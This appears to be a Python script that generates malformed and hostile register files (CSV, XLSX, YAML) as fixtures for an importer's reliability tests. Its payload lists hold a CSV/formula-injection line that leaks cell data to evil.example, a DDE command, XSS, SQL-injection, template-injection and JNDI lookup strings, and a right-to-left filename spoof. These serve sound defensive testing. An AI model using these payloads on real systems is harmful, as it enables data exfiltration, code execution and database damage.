"""Write the hostile register files of this folder, each named after its one defect.

Run ``python tests/data/hostile/make_hostile.py`` to regenerate them; the test suite checks that the files
in the folder are exactly what this script writes, so a file and its description cannot drift apart.
Workbooks are written with xlsxwriter with a fixed creation date, so they are byte-for-byte reproducible.

The outcome each file must produce is asserted in ``tests/reliability/test_hostile_files.py``.
"""

from __future__ import annotations

import datetime as dt
import sys
from collections.abc import Callable
from pathlib import Path

import xlsxwriter

HERE = Path(__file__).resolve().parent
HEADER = ["Risk ID", "Title", "Owner", "Likelihood", "Impact", "Description"]
CREATED = dt.datetime(2025, 1, 1)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "=1+1",
]
"""Cell text a spreadsheet would run as a formula or DDE payload."""

HUGE_CELL_CHARS = 256 * 1024
UNICODE_TITLES = [
    "Données personnelles exposées — «fuite»",
    "模型漂移导致错误决策",
    "Drift \u202egnp.exe\u202c in the model",       # right-to-left override
    "Zero\u200bwidth\u200djoiner and e\u0301 combining",
    "Emoji 🔥🤖 and astral 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "Arabic ﺍﻟﻤﺨﺎﻃﺮ and Hebrew סיכון",
]
MARKUP_TITLES = [
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "'); DROP TABLE risks; --",
    "[link](javascript:alert(1)) **bold** `code` | pipe",
    "{{7*7}} ${jndi:ldap://evil.example/a}",
]


def _csv_line(cells: list[str]) -> str:
    out = []
    for c in cells:
        if any(ch in c for ch in ',"\n\r'):
            c = '"' + c.replace('"', '""') + '"'
        out.append(c)
    return ",".join(out)


def _csv(rows: list[list[str]], newline: str = "\n") -> str:
    return "".join(_csv_line(r) + newline for r in rows)


def _ok_rows(n: int, prefix: str = "H") -> list[list[str]]:
    return [[f"{prefix}-{i}", f"Hostile file risk number {i}", "Owner", "2", "3", f"row {i}"] for i in range(1, n + 1)]


def _workbook(path: Path, rows: list[list[object]], *, formula_at: tuple[int, int, str, str] | None = None,
              sheet: str = "Risks") -> None:
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False,
                                         "strings_to_urls": False})
    wb.set_properties({"created": CREATED})
    ws = wb.add_worksheet(sheet)
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, str):
                ws.write_string(r, c, value)
            else:
                ws.write(r, c, value)
    if formula_at:
        r, c, formula, cached = formula_at
        ws.write_formula(r, c, formula, None, cached)
    wb.close()


def _bytes(path: Path, data: bytes) -> None:
    path.write_bytes(data)


FILES: dict[str, Callable[[Path], None]] = {}


def hostile(name: str) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    def register(fn: Callable[[Path], None]) -> Callable[[Path], None]:
        FILES[name] = fn
        return fn
    return register


# ------------------------------------------------------------------------------- files that import

@hostile("good.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([HEADER, *_ok_rows(2, "G")]).encode())


@hostile("bom_and_crlf.csv")
def _(p: Path) -> None:
    _bytes(p, b"\xef\xbb\xbf" + _csv([HEADER, *_ok_rows(3)], "\r\n").encode())


@hostile("formula_cells.csv")
def _(p: Path) -> None:
    rows = [[f"F-{i}", f, f, "2", "3", f] for i, f in enumerate(FORMULAS, 1)]
    _bytes(p, _csv([HEADER, *rows]).encode())


@hostile("formula_cells.xlsx")
def _(p: Path) -> None:
    rows: list[list[object]] = [list(HEADER)]
    rows += [[f"F-{i}", f, f, 2, 3, f] for i, f in enumerate(FORMULAS, 1)]
    rows.append([f"F-{len(FORMULAS) + 1}", "A real formula cell in the description", "Owner", 2, 3, None])
    _workbook(p, rows, formula_at=(len(rows) - 1, 5, '=CONCATENATE("cached"," value")', "cached value"))


@hostile("unicode_text.csv")
def _(p: Path) -> None:
    rows = [[f"U-{i}", t, "Zoë Ñúñez", "2", "3", t] for i, t in enumerate(UNICODE_TITLES, 1)]
    _bytes(p, _csv([HEADER, *rows]).encode())


@hostile("markup_and_sql_text.csv")
def _(p: Path) -> None:
    rows = [[f"M-{i}", t, t, "2", "3", t] for i, t in enumerate(MARKUP_TITLES, 1)]
    _bytes(p, _csv([HEADER, *rows]).encode())


@hostile("quoted_newlines.csv")
def _(p: Path) -> None:
    rows = [["Q-1", 'Title with "quotes", commas; and semicolons', "O", "2", "3", "line one\nline two\r\nline three"],
            ["Q-2", "Second", "O", "2", "3", ""]]
    _bytes(p, _csv([HEADER, *rows]).encode())


@hostile("semicolon_separated.csv")
def _(p: Path) -> None:
    _bytes(p, "".join(";".join(r) + "\n" for r in [HEADER, *_ok_rows(2)]).encode())


@hostile("short_rows.csv")
def _(p: Path) -> None:
    _bytes(p, (",".join(HEADER) + "\nS-1,Short row risk\nS-2,Another short row,Owner\n").encode())


@hostile("huge_cell.csv")
def _(p: Path) -> None:
    rows = [["B-1", "Huge description", "O", "2", "3", "x" * HUGE_CELL_CHARS]]
    _bytes(p, _csv([HEADER, *rows]).encode())


@hostile("nul_byte_in_cell.csv")
def _(p: Path) -> None:
    _bytes(p, (",".join(HEADER) + "\nN-1,Title with a NUL\x00 byte,O,2,3,x\n").encode())


# ------------------------------------------------------------------------------- files that are refused

@hostile("empty.csv")
def _(p: Path) -> None:
    _bytes(p, b"")


@hostile("whitespace_only.csv")
def _(p: Path) -> None:
    _bytes(p, b"   \n\n \t \n")


@hostile("header_only.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([HEADER]).encode())


@hostile("header_only.xlsx")
def _(p: Path) -> None:
    _workbook(p, [list(HEADER)])


@hostile("empty_workbook.xlsx")
def _(p: Path) -> None:
    _workbook(p, [])


@hostile("duplicated_header.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([["Risk ID", "Title", "Title", "Likelihood", "Impact"], ["D-1", "a", "b", "2", "3"]]).encode())


@hostile("duplicated_header.xlsx")
def _(p: Path) -> None:
    _workbook(p, [["Risk ID", "Title", "Owner", "Owner", "Likelihood", "Impact"], ["D-1", "a", "x", "y", 2, 3]])


@hostile("missing_title_column.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([["Risk ID", "Owner", "Likelihood", "Impact"], ["T-1", "O", "2", "3"]]).encode())


@hostile("blank_header_with_values.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([["Risk ID", "Title", "", "Likelihood", "Impact"], ["T-1", "t", "orphan", "2", "3"]]).encode())


@hostile("ragged_long_row.csv")
def _(p: Path) -> None:
    _bytes(p, (",".join(HEADER) + "\nR-1,t,O,2,3,d\nR-2,t2,O,2,3,d,extra,cells\n").encode())


@hostile("unterminated_quote.csv")
def _(p: Path) -> None:
    _bytes(p, (",".join(HEADER) + '\nR-1,"never closed,O,2,3,d\n').encode())


@hostile("duplicate_id.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([HEADER, ["X-1", "First", "O", "2", "3", ""], ["X-1", "Second", "O", "2", "3", ""]]).encode())


@hostile("empty_title.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([HEADER, ["E-1", "Fine", "O", "2", "3", ""], ["E-2", "", "O", "2", "3", "no title"]]).encode())


@hostile("wrong_type_likelihood.xlsx")
def _(p: Path) -> None:
    _workbook(p, [list(HEADER), ["W-1", "Fine", "O", 2, 3, ""], ["W-2", "A word", "O", "often", 3, ""],
                  ["W-3", "Not decided", "O", "tbd", 3, ""], ["W-4", "A boolean", "O", True, 3, ""]])


@hostile("wrong_type_date.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([[*HEADER, "Next review"], ["W-1", "t", "O", "2", "3", "", "2025-13-45"],
                    ["W-2", "u", "O", "2", "3", "", "someday"]]).encode())


@hostile("latin1_encoded.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([HEADER, ["L-1", "Société générale: fraude à la carte", "Zoë", "2", "3", "é"]]).encode("latin-1"))


@hostile("utf16_encoded.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([HEADER, *_ok_rows(1)]).encode("utf-16"))


@hostile("cr_only_line_endings.csv")
def _(p: Path) -> None:
    _bytes(p, _csv([HEADER, *_ok_rows(2)], "\r").encode())


@hostile("not_a_workbook.xlsx")
def _(p: Path) -> None:
    _bytes(p, b"PK\x03\x04 this is not a zip archive, let alone a workbook")


@hostile("csv_named_xlsx.xlsx")
def _(p: Path) -> None:
    _bytes(p, _csv([HEADER, *_ok_rows(1)]).encode())


@hostile("unsupported_extension.json")
def _(p: Path) -> None:
    _bytes(p, b'{"Risk ID": "J-1", "Title": "json is not a register format"}')


# ------------------------------------------------------------------------------- mapping files (with good.csv)

@hostile("mapping_not_utf8.yaml")
def _(p: Path) -> None:
    _bytes(p, "columns:\n  Propriétaire: owner\n".encode("latin-1"))


@hostile("mapping_invalid_yaml.yaml")
def _(p: Path) -> None:
    _bytes(p, b"columns: {Title: title\n  - [unclosed\n")


@hostile("mapping_not_a_mapping.yaml")
def _(p: Path) -> None:
    _bytes(p, b"- Title\n- Owner\n")


@hostile("mapping_unknown_field.yaml")
def _(p: Path) -> None:
    _bytes(p, b"columns:\n  Owner: favourite_colour\n")


@hostile("mapping_unknown_scale.yaml")
def _(p: Path) -> None:
    _bytes(p, b"scales:\n  likelihood: 1-1000000\n")


@hostile("mapping_missing_column.csv")
def _(p: Path) -> None:
    _bytes(p, b"column,field\nChance,likelihood\n")


def write_all(folder: Path = HERE) -> list[Path]:
    """Write every hostile file into ``folder``; returns their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name, make in FILES.items():
        path = folder / name
        make(path)
        out.append(path)
    return out


if __name__ == "__main__":
    written = write_all(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
    print(f"wrote {len(written)} files")
